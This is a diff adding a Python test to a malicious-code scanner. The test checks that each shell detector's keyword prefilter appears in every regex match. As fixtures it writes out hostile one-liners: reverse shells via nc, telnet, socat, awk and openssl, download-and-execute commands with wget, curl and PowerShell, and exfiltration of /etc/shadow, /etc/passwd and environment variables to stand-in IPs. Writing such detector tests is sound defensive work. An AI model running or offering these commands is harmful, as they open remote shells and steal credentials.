@@ -616,3 +616,41 @@ def test_authentication_words_found_as_by_the_case_blind_pattern():
     texts = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 20))) for _ in range(5000)]
     for text in texts:
         assert list(malcode._auth_words(text)) == [m.start() for m in malcode._AUTH_ANCHOR.finditer(text)], text
+
+
+def test_detector_words_are_in_every_match():
+    """A detector's words (looked for before its gate) are in every match of its regex: over every fixture of
+    this file and the labelled snippets, no match lacks them (else the words would hide a finding)."""
+    from veracity.checks import malcode
+
+    texts = [v if isinstance(v, str) else v.decode("latin-1")
+             for table in (BIND_SHELLS, BIND_LOOKALIKES, REVERSE_SHELLS, REVERSE_LOOKALIKES, DOWNLOAD_EXEC,
+                           DOWNLOAD_LOOKALIKES, OBFUSCATED, OBFUSCATED_LOOKALIKES, EXFILTRATION,
+                           EXFILTRATION_LOOKALIKES)
+             for v in table.values()]
+    texts += [  # one line per detector, so that each is checked on at least one match
+        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
+        "telnet 10.0.0.1 23 | /bin/sh | telnet 10.0.0.1 24",
+        "SOCAT TCP4:10.0.0.1:4444 EXEC:/bin/bash",
+        "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while (42) { s |& getline c } }'",
+        "openssl s_client -quiet -connect 10.0.0.1:443 | /bin/sh",
+        "wget -qO- http://198.51.100.7/x.sh | sh", "sh -c \"$(curl -fsSL http://198.51.100.7/i)\"",
+        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
+        "printf '\\x65\\x63\\x68\\x6f\\x20\\x68\\x69\\x0a\\x0a' | sh",
+        "PowerShell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        "wget --post-file=/etc/shadow http://198.51.100.7/u", "cat /etc/shadow | nc 198.51.100.7 9999",
+        "nc 198.51.100.7 9999 < /etc/passwd", "env | curl -d @- http://198.51.100.7/e",
+        "nc -e /bin/sh 10.0.0.1 4444",
+    ]
+    if SNIPPETS.is_dir():
+        texts += [p.read_text(errors="replace") for p in sorted(SNIPPETS.rglob("*")) if p.is_file()]
+    matched = set()
+    for det in malcode._SHELL_DETECTORS:
+        caseless = bool(det.regex.flags & re.IGNORECASE)
+        assert not caseless or all(w == w.lower() for w in det.words), det.name
+        for text in texts:
+            for m in det.regex.finditer(text):
+                matched.add(det.name)
+                seen = m.group().lower() if caseless else m.group()
+                assert not det.words or any(w in seen for w in det.words), (det.name, m.group())
+    assert matched == {det.name for det in malcode._SHELL_DETECTORS}
